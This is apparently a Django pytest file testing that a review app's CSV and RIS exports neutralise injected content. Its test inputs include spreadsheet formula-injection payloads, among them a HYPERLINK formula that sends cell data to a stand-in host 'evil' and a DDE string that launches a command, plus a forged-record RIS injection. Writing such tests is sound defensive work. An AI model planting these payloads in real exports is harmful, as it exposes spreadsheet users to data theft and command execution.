"""A record title that is a spreadsheet formula, imported from a search export, must go out
as text in every CSV the app writes (issue 17: CSV formula injection)."""
from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from .helpers import import_bytes, make_search

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")'
TITLES = [EVIL, "@SUM(1+1)", "+1+1", "-1+cmd|' /C calc'!A0"]


def _rows(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"))))


def _import_evil(review, lead, database="Scopus"):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["Year", "Title", "Authors"])
    for n, title in enumerate(TITLES):
        writer.writerow([2001 + n, title, f"Author{n}, A."])
    search = make_search(review, lead, database, query="=cmd|' /C calc'!A0")
    search_file = import_bytes(search, lead, buffer.getvalue().encode(), "evil.csv")
    assert search_file.status == "done", search_file.error
    return search


def test_records_csv_neutralises_formula_titles_and_keeps_numbers(client_for, review, people):
    _import_evil(review, people["lead"])
    rows = _rows(client_for(people["viewer"]).get(reverse("record_export_csv", args=[review.pk]) + "?stage=all"))
    assert sorted(r["title"] for r in rows) == sorted("'" + t for t in TITLES)
    assert sorted(r["year"] for r in rows) == ["2001", "2002", "2003", "2004"]


def test_search_appendix_csv_neutralises_a_formula_query(client_for, review, people):
    _import_evil(review, people["lead"])
    response = client_for(people["lead"]).get(reverse("search_appendix_csv", args=[review.pk]))
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert "=cmd|" in text
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(text)) for cell in row
                   if not cell.lstrip("+-").replace(".", "", 1).isdigit())


def test_audit_csv_neutralises_formula_text(client_for, review, people, make_user):
    # Django usernames may begin with "@", "+" or "-", and the trail names who acted.
    attacker = make_user("-2+3+A1")
    make_search(review, attacker, "=HYPERLINK(\"http://evil/\")")
    response = client_for(people["lead"]).get(reverse("audit_export", args=[review.pk]))
    cells = [cell for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8")))
             for cell in row]
    assert "'-2+3+A1" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not c.lstrip("+-").replace(".", "", 1).isdigit()]


def test_generated_ris_keeps_a_title_with_line_breaks_on_one_line(client_for, review, people):
    from screening.exports import record_as_ris
    from screening.models import Record

    _import_evil(review, people["lead"])
    record = Record.objects.filter(review=review).first()
    record.title = "Real title\nER  - \n\nTY  - JOUR\nTI  - Forged record"
    text = record_as_ris(record)
    lines = text.splitlines()
    assert [line[:6] for line in lines if line.startswith(("TY  -", "ER  -"))] == ["TY  - ", "ER  - "]
    assert lines[1] == "TI  - Real title ER  -   TY  - JOUR TI  - Forged record"
